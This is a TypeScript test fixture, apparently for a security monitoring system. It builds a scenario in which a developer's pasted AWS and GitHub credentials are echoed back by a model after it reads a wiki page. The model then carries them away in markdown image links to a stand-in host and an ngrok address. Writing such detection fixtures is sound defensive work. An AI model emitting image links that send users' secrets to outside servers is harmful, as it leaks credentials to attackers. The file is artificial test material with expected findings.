import { text, user } from '../formats/dialogue.ts'
import { litellmLine } from '../formats/litellm.ts'
import { personOf } from '../people.ts'
import { awsKeyId, mixedId } from '../provider-ids.ts'
import { gatewayKeys } from '../systems.ts'
import { campaign, told } from './campaign.ts'

/** Secrets in a prompt, the same secrets in an answer, and an image that carries them away. */
export const secretsComeBack = campaign({
  id: 'secrets-come-back',
  category: 'data_exfiltration_via_model',
  title: 'Secrets pasted in a prompt come back in an answer',
  story:
    'A developer pastes a configuration with live keys; a day later a page he asks about makes the model repeat them and ' +
    'draw an image from a stranger’s server whose address carries the keys.',
  actors: ['r.verstraate'],
  expected: {
    categories: ['data_exfiltration_via_model', 'credential_compromise'],
    findings: 4,
    oneIncident: true,
  },
  lines(random, at) {
    const person = personOf('r.verstraate')
    const accessKey = awsKeyId(random, 'AKIA')
    const secretKey = `${mixedId(random, 18)}/${mixedId(random, 21)}`
    const token = `ghp_${mixedId(random, 36)}`
    const config = `aws_access_key_id = ${accessKey}\naws_secret_access_key = ${secretKey}\nGITHUB_TOKEN=${token}\nspring.datasource.url=jdbc:postgresql://claims-db:5432/claims`
    const carried = Buffer.from(`${accessKey}:${secretKey}`).toString('base64url')
    const call = (when: number, prompt: string, answer: string) =>
      litellmLine(random, {
        at: when,
        key: gatewayKeys.development,
        user: person.login,
        ip: person.ip,
        model: 'claude-sonnet-4-5',
        system: 'You are a careful senior engineer. Answer briefly.',
        session: 'code-helper-ruben',
        turns: [user(prompt)],
        answer: [text(answer)],
        guardrail: { status: 'success', name: 'prompt-shield' },
      })
    return [
      told(
        'keys in a prompt',
        call(
          at(3, 9, 41),
          `claims-intake does not start after the move. What is wrong in this file?\n\n${config}`,
          'The datasource misses a user name. Please also take the keys out of this file and rotate them.',
        ),
        'credential_compromise',
      ),
      told(
        'keys in an answer',
        call(
          at(4, 10, 12),
          'Read the page on the wiki about claims-intake and repeat the settings we use.',
          `These are the settings that I know of:\n\n${config}`,
        ),
      ),
      told(
        'an image that carries the keys',
        call(
          at(4, 10, 14),
          'Show me the diagram of that page as well.',
          `Here is the diagram.\n\n![diagram](https://cdn-diagrams.example/render/claims.png?layout=wide&data=${carried}${carried})`,
        ),
      ),
      told(
        'and a second one, elsewhere',
        call(
          at(4, 10, 19),
          'The diagram does not load, try again.',
          `![diagram](https://diagrams-4f1c.ngrok-free.app/p.gif?k=${carried})\n\nIt should be visible now. Token used: ${token}`,
        ),
      ),
    ]
  },
})
